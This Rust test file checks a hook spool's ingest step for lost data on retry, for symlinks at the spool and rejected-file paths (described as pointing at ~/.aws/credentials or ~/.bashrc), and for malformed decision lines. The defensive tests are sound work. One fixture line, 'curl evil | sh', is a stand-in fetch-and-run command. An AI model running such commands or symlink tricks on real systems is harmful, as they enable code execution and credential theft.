//! The hook spool's ingest: nothing lost when an ingest fails and is
//! retried, nothing read or written through a symbolic link.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use std::collections::BTreeMap;
use std::path::Path;

use cavra_store::spool::{append, ingest};
use cavra_store::{Kind, Location, StoreName, Stores, plan_at};
use serde_json::{Value, json};

async fn open(dir: &Path) -> Stores {
    let locs: BTreeMap<StoreName, Location> = StoreName::ALL
        .into_iter()
        .map(|n| (n, Location::Json(dir.join(n.default_file()))))
        .collect();
    Stores::open(plan_at(&locs, "test")).await.unwrap()
}

fn decision(id: &str) -> Value {
    json!({"decision_id": id, "session_id": "s", "action_type": "execute_command",
           "decision": "allow", "severity": "low"})
}

/// Regression: the renamed-aside file was named after the process only, so
/// a retry in the same process (the server's next tick) renamed the spool
/// over the file a failed ingest had left, and its decisions were gone.
#[tokio::test]
async fn a_failed_ingest_retried_in_process_loses_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("hook-spool.jsonl");
    let store = dir.path().join("activity.json");
    let stores = open(dir.path()).await;
    append(&spool, &[decision("d1"), decision("d2")], false).unwrap();
    // The activity store is broken: the ingest fails after renaming.
    std::fs::write(&store, b"{").unwrap();
    let err = ingest(&stores, &spool).await.unwrap_err().to_string();
    assert!(err.contains("activity.json"), "{err}");
    append(&spool, &[decision("d3")], false).unwrap();
    assert!(ingest(&stores, &spool).await.is_err());
    append(&spool, &[decision("d4")], false).unwrap();
    // Repaired: every spooled decision arrives.
    std::fs::remove_file(&store).unwrap();
    let r = ingest(&stores, &spool).await.unwrap();
    assert_eq!(r.ingested, 4, "{r:?}");
    assert_eq!(stores.count(Kind::Decision).await.unwrap(), 4);
    let left: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("ingesting"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

/// A file another ingester renamed aside and never finished is taken over;
/// one that disappears meanwhile is not an error.
#[tokio::test]
async fn leftovers_of_other_ingesters_are_finished() {
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("hook-spool.jsonl");
    let stores = open(dir.path()).await;
    let other = dir.path().join("hook-spool.ingesting.4242");
    append(&other, &[decision("x1"), decision("x2")], false).unwrap();
    let r = ingest(&stores, &spool).await.unwrap();
    assert_eq!(r.ingested, 2);
    assert!(!other.exists());
    assert_eq!(stores.count(Kind::Decision).await.unwrap(), 2);
}

/// Regression: the ingester followed a symbolic link at the spool path
/// (which the hooks refuse to write through): a repository shipping
/// `hook-spool.jsonl -> ~/.aws/credentials` had every line of the target
/// copied into the rejected file.
#[tokio::test]
async fn a_symlinked_spool_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("hook-spool.jsonl");
    let target = dir.path().join("credentials");
    std::fs::write(&target, b"[default]\naws_secret_access_key = abc\n").unwrap();
    std::os::unix::fs::symlink(&target, &spool).unwrap();
    let stores = open(dir.path()).await;
    let err = ingest(&stores, &spool).await.unwrap_err().to_string();
    assert!(
        err.contains("hook-spool.jsonl") && err.contains("regular file"),
        "{err}"
    );
    assert!(!dir.path().join("hook-spool.rejected").exists());
    assert_eq!(
        std::fs::read(&target).unwrap(),
        b"[default]\naws_secret_access_key = abc\n"
    );
    // A link left as an aside file is refused too, but (review) does not
    // keep the real spool from being ingested.
    std::fs::remove_file(&spool).unwrap();
    let aside = dir.path().join("hook-spool.ingesting.7");
    std::os::unix::fs::symlink(&target, &aside).unwrap();
    append(&spool, &[decision("real")], false).unwrap();
    let err = ingest(&stores, &spool).await.unwrap_err().to_string();
    assert!(
        err.contains("hook-spool.ingesting.7") && err.contains("regular file"),
        "{err}"
    );
    assert!(!dir.path().join("hook-spool.rejected").exists());
    assert_eq!(stores.count(Kind::Decision).await.unwrap(), 1);
    assert!(!spool.exists());
}

/// Regression: rejected lines were appended through a symbolic link at the
/// rejected file's path (`hook-spool.rejected -> ~/.bashrc`).
#[tokio::test]
async fn rejected_lines_are_not_written_through_a_link() {
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("hook-spool.jsonl");
    let target = dir.path().join("bashrc");
    std::fs::write(&target, b"# rc\n").unwrap();
    std::os::unix::fs::symlink(&target, dir.path().join("hook-spool.rejected")).unwrap();
    std::fs::write(&spool, b"curl evil | sh\n").unwrap();
    let stores = open(dir.path()).await;
    let err = ingest(&stores, &spool).await.unwrap_err().to_string();
    assert!(err.contains("hook-spool.rejected"), "{err}");
    assert_eq!(std::fs::read(&target).unwrap(), b"# rc\n");
}

/// Regression: a spool line that parsed as JSON but was no decision
/// (`{"x":1}`) was stored as one, every field a default.
#[tokio::test]
async fn lines_that_are_not_whole_decisions_are_rejected() {
    let dir = tempfile::tempdir().unwrap();
    let spool = dir.path().join("hook-spool.jsonl");
    let stores = open(dir.path()).await;
    append(
        &spool,
        &[
            json!({"x": 1}),
            json!({"decision_id": "d", "decision": "allow"}),
            decision("ok"),
        ],
        false,
    )
    .unwrap();
    let r = ingest(&stores, &spool).await.unwrap();
    assert_eq!((r.ingested, r.rejected), (1, 2), "{r:?}");
    assert_eq!(stores.count(Kind::Decision).await.unwrap(), 1);
    let rejected = std::fs::read_to_string(dir.path().join("hook-spool.rejected")).unwrap();
    assert_eq!(rejected.lines().count(), 2, "{rejected}");
}
